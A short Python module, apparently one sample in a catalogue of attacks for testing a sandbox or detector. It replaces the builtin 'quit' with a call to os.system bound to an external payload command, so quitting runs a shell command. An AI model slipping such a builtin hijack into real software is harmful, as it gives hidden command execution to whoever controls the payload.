"""A builtin is replaced by a function of C with its arguments."""
CATEGORY = "borrowed"
REACH = "run"

from . import payload


def attack():
    import builtins
    import functools
    import os
    vars(builtins)["quit"] = functools.partial(os.system, payload.COMMAND)
